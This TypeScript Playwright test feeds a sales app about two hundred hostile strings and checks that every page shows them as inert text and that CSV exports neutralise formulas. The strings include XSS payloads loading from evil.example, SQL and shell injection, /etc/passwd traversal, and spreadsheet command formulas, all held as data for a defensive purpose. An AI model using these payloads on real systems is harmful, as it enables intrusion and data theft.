// Two hundred strings of people who mean harm, wherever people can write something: shown on every
// page and saved as a table, they are text and nothing else, and come back byte for byte.

import { readFileSync } from 'node:fs'
import { type APIRequestContext, type Page, request } from '@playwright/test'
import { canonical, type Json } from '../src/write/canonical'
import { test as base, expect, Stage, settled, signIn } from './fixtures'
import { addressOf, fits, pages } from './pages'

// A stage of its own: what is written here is in the way of every other story.
const test = base.extend<object, { stage: Stage }>({
  stage: [
    // biome-ignore lint/correctness/noEmptyPattern: the first argument names what a fixture needs
    async ({}, use) => {
      const stage = await Stage.start()
      await use(stage)
      await stage.ends()
    },
    { scope: 'worker', timeout: 300_000 },
  ],
})

const MARKUP = [
  '<script>globalThis.ran=1</script>',
  '"><script src=//evil.example/x.js></script>',
  '<img src=x onerror=globalThis.ran=1>',
  '<svg onload=globalThis.ran=1>',
  '<svg><script href="//evil.example/x"/></svg>',
  '<iframe srcdoc="<script>parent.ran=1</script>">',
  '<iframe src=javascript:parent.ran=1>',
  '<body onload=globalThis.ran=1>',
  '<details open ontoggle=globalThis.ran=1>',
  '<input autofocus onfocus=globalThis.ran=1>',
  '<a href="javascript:globalThis.ran=1">here</a>',
  '<object data=//evil.example/x>',
  '<embed src=//evil.example/x>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{display:none}</style>',
  '<style>@import "//evil.example/x.css"</style>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><button>Sign in',
  '<math><mi//xlink:href="data:x,<script>globalThis.ran=1</script>">',
  '</title><script>globalThis.ran=1</script>',
  '</textarea><img src=x onerror=globalThis.ran=1>',
  '<!--><script>globalThis.ran=1</script-->',
  '<![CDATA[<script>globalThis.ran=1</script>]]>',
  '<template><img src=x onerror=globalThis.ran=1></template>',
  '<marquee onstart=globalThis.ran=1>',
  '<video><source onerror=globalThis.ran=1>',
  '<img src="//evil.example/pixel.png">',
  '<audio src=//evil.example/x autoplay>',
  '&lt;script&gt;globalThis.ran=1&lt;/script&gt;',
  '&#60;img src=x onerror=globalThis.ran=1&#62;',
  '<b>bold</b><br/><hr>',
  '<plaintext>',
  "' onmouseover='globalThis.ran=1",
  '" onfocus="globalThis.ran=1" autofocus="',
  '` onmouseover=globalThis.ran=1 `',
]

const ADDRESSES = [
  'javascript:globalThis.ran=1',
  'JaVaScRiPt:globalThis.ran=1',
  'java\u200bscript:globalThis.ran=1',
  'data:text/html,<script>globalThis.ran=1</script>',
  'data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'blob:https://evil.example/0',
  'file:///etc/passwd',
  '//evil.example/x',
  'https://evil.example/?q=<script>',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  '[here](javascript:globalThis.ran=1)',
  '![x](//evil.example/pixel.png)',
  '[x]: //evil.example "x"',
  'mailto:x@evil.example?cc=all',
  'tel:+1900555',
]

const TEMPLATES = [
  '{{constructor.constructor("globalThis.ran=1")()}}',
  '{{count}} of {{name}}',
  '$t(shell:signOut)',
  '$t(common:status.done, {"count": 1})',
  '{{-name}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the point of it
  '${globalThis.ran=1}',
  '#{7*7}',
  '<%= 7*7 %>',
  '%s %d %n %x',
  '{0} {1} {}',
  '%{name}',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  'true',
  '[object Object]',
  '{"role":"admin"}',
  "'; DROP TABLE tasks; --",
  "' OR '1'='1",
  '1; SELECT pg_sleep(9)',
  '" OR ""="',
  '%',
  '_',
  '%_%',
  '\\',
  '\\"',
  "\\'",
  '`id`',
  '$(id)',
  '| id',
  '; id',
  '&& id',
  '%00',
  '\\0',
  '\\u0000',
  '%0d%0aSet-Cookie: x=1',
  '{status, select, done {x} other {y}}',
]

const SCRIPTS_OF_PEOPLE = [
  '\u202eevil.exe gnp.tide',
  '\u202dleft to right\u202c',
  '\u2066isolate\u2069 and \u2067mirror\u2069',
  '\u200fright',
  'a\u200bb\u200cc\u200dd',
  '\ufeffwith a mark',
  'soft\u00adhy\u00adphen',
  'مرحبا <b>بالعالم</b> 123',
  'שלום "עולם"',
  'ไทยไม่มีวรรคระหว่างคำ',
  '漢字かな交じり文、句読点。',
  'İıŞşĞğ ﬁ ﬂ ẞ',
  'e\u0301 is not é',
  'Z\u0351\u036b\u0343\u034f\u034fa\u0350\u0351\u0352lgo\u0300\u0301\u0302\u0303',
  '👩‍👩‍👧‍👦 family',
  '🏳️‍🌈🏴‍☠️',
  '👍🏽👍🏿',
  '🇩🇪🇪🇬',
  '😀'.repeat(40),
  '\u{1f4a9}',
  '\u{10ffff}',
  '\ue000 private',
  '\u00a0\u00a0hard\u00a0spaces\u00a0here',
  '\u3000wide\u3000space\u3000here',
  'x\u2028y\u2029z',
  '𝕊𝕚𝕘𝕟 𝕠𝕦𝕥',
  'Ａｄｍｉｎ',
  'аdmin with a Cyrillic a',
]

const CONTROLS = [
  'a nul\u0000 in it',
  '\u0000',
  'bell\u0007 and \u001b[31mred\u001b[0m',
  '\t=1+1',
  '\r=1+1',
  'two\r\nlines',
  'back\u0008space and del\u007f',
  'next\u0085line',
]

const LENGTHS = [
  'W'.repeat(180),
  'i'.repeat(190),
  `${'long-'.repeat(36)}end`,
  'Donaudampfschifffahrtsgesellschaftskapitänsmützenabzeichenverleihung',
  '漢'.repeat(60),
  'ال'.repeat(80),
  `a${' b'.repeat(90)}`,
  '.'.repeat(150),
  '-'.repeat(150),
  '()[]{}'.repeat(25),
]

const FORMULAS = [
  '=1+1',
  '=cmd|"/c calc"!A0',
  '=HYPERLINK("http://evil.example","x")',
  '=IMPORTXML("http://evil.example","//a")',
  '+1+1',
  '+49 40 123',
  '-1+1',
  '-2+3+cmd|"/c calc"!A0',
  '@SUM(A1:A9)',
  '=DDE("cmd";"/c calc";"x")',
  '="x"&A1',
  '=',
  '+',
  '-',
  '@',
]

const PIECES = ['a,b', '"', '""', "'", 'a;b', 'a|b', 'a "quoted" word', ', ,', '#', '&amp;']

/** The same with something before it, so that it is no beginning only. */
const seeds = [
  ...MARKUP,
  ...ADDRESSES,
  ...TEMPLATES,
  ...SCRIPTS_OF_PEOPLE,
  ...CONTROLS,
  ...LENGTHS,
  ...FORMULAS,
  ...PIECES,
]
const hostile = [...seeds, ...seeds.map((seed) => `Müller ${seed}`)]
  .filter((text) => new TextEncoder().encode(text).length <= 200)
  .slice(0, 200)

/** Formulas among those that are there in any case. */
const strings = [...new Set([...FORMULAS, ...hostile])].slice(0, 200)

let made = 0

/** An id of version 7, later than all before it. */
function newId(): string {
  made += 1
  const head = Date.now().toString(16).padStart(12, '0')
  const tail = made.toString(16).padStart(12, '0')
  const salt = Math.floor(Math.random() * 0xfff)
    .toString(16)
    .padStart(3, '0')
  return `${head.slice(0, 8)}-${head.slice(8)}-7${salt}-8000-${tail}`
}

interface Draft {
  id?: string
  do: string
  body: Json
  was?: Json
}

class Writer {
  private constructor(
    private readonly caller: APIRequestContext,
    private readonly token: string,
  ) {}

  static async of(stage: Stage): Promise<Writer> {
    const caller = await request.newContext({ baseURL: stage.address })
    const { login, password } = stage.said.admin
    const data = { organisation: stage.said.organisation, login, password }
    const reply = await caller.post('/v1/sign-in', { data })
    expect(reply.status(), await reply.text()).toBe(200)
    return new Writer(caller, ((await reply.json()) as { token: string }).token)
  }

  private get headers() {
    return { authorization: `Bearer ${this.token}`, 'content-type': 'application/json' }
  }

  async get<T>(path: string): Promise<T> {
    const reply = await this.caller.get(path, { headers: this.headers })
    expect(reply.status(), await reply.text()).toBe(200)
    return (await reply.json()) as T
  }

  /** Writes changes; what the server does not take is told. */
  async writes(drafts: Draft[]): Promise<string[]> {
    const now = Date.now() * 1_000
    const changes = drafts.map((draft, place) =>
      canonical({
        id: draft.id ?? newId(),
        do: draft.do,
        stamp: now + place,
        civil: { time: now, offset: 0, zone: 'Etc/UTC' },
        was: draft.was,
        body: draft.body,
      } as Json),
    )
    const data = `{"changes":[${changes.join(',')}]}`
    const reply = await this.caller.post('/v1/changes', { headers: this.headers, data })
    expect(reply.status(), await reply.text()).toBe(200)
    const { verdicts } = (await reply.json()) as {
      verdicts: { verdict: { verdict: string; code?: string; field?: string } }[]
    }
    return verdicts.map(({ verdict }) => [verdict.verdict, verdict.code, verdict.field].join(' '))
  }

  async ends() {
    await this.caller.dispose()
  }
}

const isTaken = (verdict: string) => verdict.startsWith('applied')

interface Items {
  items: { record: { id: string; name?: string; title?: string } }[]
}

/** Those whose own pages are looked at. */
const WORST = [
  '</title><script>globalThis.ran=1</script>',
  '<style>*{display:none}</style>',
  '__proto__',
  '\u202eevil.exe gnp.tide',
  'W'.repeat(180),
]

/** What a script that ran would have left. */
const ran = (page: Page) => page.evaluate(() => (globalThis as { ran?: number }).ran)

/** The cells of a table as RFC 4180 has them. */
function cellsOf(text: string): string[][] {
  const rows: string[][] = [[]]
  const cells = text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy)
  for (const [, within, plain, end] of cells) {
    rows.at(-1)?.push(within?.replaceAll('""', '"') ?? plain ?? '')
    if (end !== ',') rows.push([])
  }
  return rows.slice(0, -1)
}

test('two hundred hostile strings are text on every page, and in every table', async ({
  page,
  stage,
}) => {
  test.setTimeout(480_000)
  expect(strings.length).toBe(200)
  const strangers: string[] = []
  page.on('request', (asked) => {
    const { protocol, host } = new URL(asked.url())
    if (protocol.startsWith('http') && host !== new URL(stage.address).host) {
      strangers.push(asked.url())
    }
  })
  page.on('dialog', (dialog) => strangers.push(`a dialog: ${dialog.message()}`))

  const writer = await Writer.of(stage)
  const activity = (await writer.get<Items>('/v1/activity-types?limit=1')).items[0]?.record.id ?? ''
  const rep = stage.rep('phone-0').id
  const day = stage.said.today

  const customers = strings.map((name) => ({
    id: newId(),
    do: 'customer.added',
    body: { name, about: name, address: name, owner: rep, tags: { hostile: true } },
  }))
  const refused = (await writer.writes(customers)).filter((verdict) => !isTaken(verdict))
  expect(refused).toEqual([])
  const tasks = strings.map((title, place) => ({
    do: 'task.assigned',
    body: {
      title,
      details: title,
      activity,
      assignee: rep,
      customer: customers[place]?.id ?? '',
      plan_day: day,
    },
  }))
  expect((await writer.writes(tasks)).filter((verdict) => !isTaken(verdict))).toEqual([])
  const few = strings.filter((_, place) => place % 10 === 0)
  const groups = few.flatMap((name) => [
    { do: 'team.added', body: { team: { name } } },
    { do: 'territory.created', body: { name } },
    { do: 'activity_type.added', body: { name } },
    {
      do: 'person.added',
      body: { person: { name, role: 'rep', zone: 'Europe/Berlin' } },
    },
  ])
  const groupsRefused = (await writer.writes(groups)).filter((verdict) => !isTaken(verdict))
  expect(groupsRefused).toEqual([])
  // What reps write comes by their phones.
  const phone = stage.phone('phone-0')
  for (const note of few) await phone.write(note)
  await phone.write(strings.join('\n'))
  await phone.sync()

  const kept = new Map<string, string>()
  for (let after = 0; ; ) {
    const { items, next } = await writer.get<Items & { next?: number }>(
      `/v1/customers?tag=hostile&limit=1000&after=${after}`,
    )
    for (const { record } of items) kept.set(record.id, record.name ?? '')
    if (!next) break
    after = Number(next)
  }
  for (const { id, body } of customers) expect(kept.get(id)).toBe(body.name)

  await signIn(page, stage, 'admin')
  // The table shows them as they are, and saves them all.
  await page.goto('/customers?tag=hostile')
  await settled(page)
  const names = page.locator('main [role="grid"] [data-index] [role="gridcell"]:nth-child(2)')
  await expect(names.nth(9)).toBeVisible()
  const told = new Set(strings)
  expect((await names.allTextContents()).filter((name) => !told.has(name))).toEqual([])
  const saved = page.waitForEvent('download')
  await page.getByRole('button', { name: /CSV/i }).first().click()
  const [header, ...rows] = cellsOf(readFileSync(await (await saved).path(), 'utf8'))
  const place = header?.findIndex((cell) => cell.replace('\ufeff', '') === 'Name') ?? -1
  const safe = strings.map((name) => (/^[=+\-@\t\r]/.test(name) ? `'${name}` : name))
  expect(rows.map((row) => row[place]).sort()).toEqual(safe.sort())
  expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])

  // A table that somebody else made is shown before it is taken.
  await page.goto('/customers?import=new')
  await page.locator('input[type="file"]').setInputFiles({
    name: '<img src=x onerror=globalThis.ran=1>.csv',
    mimeType: 'text/csv',
    buffer: Buffer.from(`name,code\n${FORMULAS[0]},"<svg onload=globalThis.ran=1>"\n`),
  })
  await expect(page.getByText('<svg onload=globalThis.ran=1>').first()).toBeVisible()
  expect(await ran(page)).toBeUndefined()

  const worst = WORST.map((name) => customers.find(({ body }) => body.name === name)?.id)
  expect(worst).not.toContain(undefined)
  const addresses = [
    ...(await Promise.all(pages.map((listed) => addressOf(page, stage, listed)))),
    ...worst.map((id) => `/customers/${id}`),
    `/today?customer=${worst[0]}`,
    `/activity?q=${encodeURIComponent('<script>globalThis.ran=1</script>')}`,
    `/customers?q=${encodeURIComponent('"><img src=x onerror=globalThis.ran=1>')}`,
    `/help?q=${encodeURIComponent('<img src=x onerror=globalThis.ran=1>')}`,
  ]
  const at = { type: 'page', description: '' }
  test.info().annotations.push(at)
  for (const address of addresses) {
    at.description = address
    await page.goto(address)
    await settled(page)
    expect(await ran(page), address).toBeUndefined()
    await fits(page)
  }
  expect(strangers).toEqual([])
  await writer.ends()
})
